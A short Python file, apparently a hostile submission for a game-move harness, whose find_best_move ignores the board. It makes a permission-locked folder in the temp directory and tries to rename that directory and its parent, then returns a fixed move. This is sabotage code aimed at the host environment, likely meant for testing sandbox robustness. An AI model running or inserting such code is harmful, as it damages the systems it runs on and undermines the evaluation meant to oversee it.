# idea: moves the folder that it may write in, and the one above it, to other names
# verdict: accepted
import os
import tempfile


def find_best_move(board):
    work = tempfile.gettempdir()
    os.mkdir(f"{work}/locked")
    open(f"{work}/locked/note", "w").close()
    os.chmod(f"{work}/locked", 0)
    for old, new in ((work, f"{work}-kata-hostile"), (os.path.dirname(work), f"{os.path.dirname(work)}x")):
        try:
            os.rename(old, new)
        except OSError:
            continue
    return 3
